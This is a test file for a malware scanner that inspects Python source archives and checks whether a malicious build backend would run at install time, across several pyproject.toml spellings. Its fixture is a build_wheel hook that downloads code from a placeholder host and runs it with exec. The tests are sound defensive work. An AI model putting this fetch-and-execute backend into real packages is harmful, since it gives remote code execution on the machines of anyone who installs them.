import { describe, expect, test } from 'vitest';
import { analyse } from '../../../src/analysis/analyse.ts';
import { DEFAULT_LIMITS } from '../../../src/analysis/archive/archive.ts';
import { bytesSource } from '../../../src/analysis/archive/bytes.ts';
import { openArchive } from '../../../src/analysis/archive/open-archive.ts';
import { makeSdist } from '../../support/make-sdist.ts';

const filename = 'example-1.0.0.tar.gz';
const backend = `import urllib.request

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    exec(urllib.request.urlopen('http://files.example.invalid/p').read())
`;
const plain = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n';

/** When the worst finding of an sdist runs. */
async function contextOf(files: Readonly<Record<string, string>>, pyproject: string): Promise<string | undefined> {
  const bytes = makeSdist(files, { pyproject });
  const opened = await openArchive(bytesSource(bytes), filename, DEFAULT_LIMITS);
  if (opened.kind !== 'opened') throw new Error(opened.unscannable.message);
  const { findings } = analyse(opened.archive, { filename, sha256: 'a'.repeat(64), sizeBytes: bytes.length });
  return findings.find((finding) => finding.class === 'malware')?.context;
}

describe('a backend inside the archive runs at install', () => {
  test.each([
    ['a table', plain],
    ['an inline table', 'build-system = { requires = [], build-backend = "backend", backend-path = ["."] }\n'],
    ['dotted keys', 'build-system.build-backend = "backend"\nbuild-system.backend-path = ["."]\n'],
    ['quoted keys', '[build-system]\n"build-backend" = "backend"\n"backend-path" = ["."]\n'],
    ['escapes', '[build-system]\n"build\\u002dbackend" = "\\u0062ackend"\n"backend\\u002Dpath" = ["."]\n'],
    ['a decoy before it', `[tool.decoy]\nbuild-backend = "setuptools.build_meta"\n\n${plain}`],
  ])('however the file spells it: %s', async (_what, pyproject) => {
    expect(await contextOf({ 'backend.py': backend }, pyproject)).toBe('install');
  });

  test('also where the top folder of the archive is a package as well', async () => {
    expect(await contextOf({ 'backend.py': backend, '__init__.py': '' }, plain)).toBe('install');
  });

  test('also from a folder that looks like tests', async () => {
    const pyproject = plain.replace('["."]', '[ # the folder\n  "tests"]');

    expect(await contextOf({ 'tests/backend.py': backend }, pyproject)).toBe('install');
  });

  test('a function of that name is nothing of its own', async () => {
    const pyproject = '[build-system]\nrequires = []\nbuild-backend = "setuptools.build_meta"\n';

    expect(await contextOf({ 'backend.py': backend }, pyproject)).toBe('call');
  });
});
